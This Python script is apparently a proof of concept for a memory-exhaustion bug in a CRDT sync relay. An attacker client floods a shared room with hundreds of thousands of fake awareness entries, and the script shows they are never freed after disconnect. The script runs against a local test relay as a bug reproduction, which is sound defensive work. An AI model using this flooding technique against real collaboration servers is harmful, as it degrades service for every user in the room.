"""Bug C: Awareness.meta (client id -> clock, time) is never pruned, and _YConn.clients
grows with every client id a connection announces. One y-protocols client can add 10,000
awareness entries per message; they stay in the room's Awareness for as long as the room is
loaded (i.e. forever while anyone else is in it), even after the sender disconnected, and
every awareness message then costs O(all entries ever seen) in Peer._schedule_presence."""
import asyncio, sys, tempfile, time, tracemalloc
sys.path.insert(0, __import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "tests"))
sys.dont_write_bytecode = True
from pathlib import Path
from relay_helpers import running_relay, YClient
from crdtsync.sync import yprotocol as y
from crdtsync.sync.awareness import encode_awareness

async def main():
    tmp = Path(tempfile.mkdtemp())
    async with running_relay(tmp) as relay:
        resident = await YClient.open(relay.url, "room")      # an ordinary user who stays
        await resident.sync()
        resident.follow()
        atk = await YClient.open(relay.url, "room")
        await atk.sync()
        aw = relay.peer.presence("room")
        tracemalloc.start()
        base = tracemalloc.get_traced_memory()[0]
        next_id = 1_000_000
        for batch in range(60):                                # bounded: 60 messages
            entries = [(next_id + i, 1, None) for i in range(10_000)]   # "gone" entries
            next_id += 10_000
            await atk.ws.send(y.encode_awareness(encode_awareness(entries)))
            if batch % 20 == 19:
                await asyncio.sleep(0.5)
                print("after %5d entries sent: len(meta)=%d len(states)=%d traced=+%.1f MB"
                      % ((batch + 1) * 10_000, len(aw.meta), len(aw.states),
                         (tracemalloc.get_traced_memory()[0] - base) / 1e6))
        # also: live states are remembered in yc.clients
        entries = [(next_id + i, 1, {"c": i}) for i in range(10_000)]
        await atk.ws.send(y.encode_awareness(encode_awareness(entries)))
        for _ in range(100):
            if len(aw.states) >= 10_000: break
            await asyncio.sleep(0.1)
        yc = next(c for c in relay._yconns if c.ws.remote_address[1] == atk.ws.local_address[1])
        print("yc.clients of the attacker:", len(yc.clients))
        await atk.aclose()
        for _ in range(100):
            if not aw.states: break
            await asyncio.sleep(0.1)
        print("attacker gone: len(meta)=%d len(states)=%d (room still loaded: %s)"
              % (len(aw.meta), len(aw.states), "room" in relay.peer.docs()))
        # cost of one ordinary presence update now
        t = time.perf_counter()
        for _ in range(20):
            relay.peer._schedule_presence()
        print("one _schedule_presence() call: %.1f ms (it runs on every awareness message)"
              % ((time.perf_counter() - t) / 20 * 1000))
        if len(aw.meta) >= 600_000:
            print("BUG: awareness metadata of departed clients is never freed")
        await resident.unfollow(); await resident.aclose()

asyncio.run(asyncio.wait_for(main(), 120))
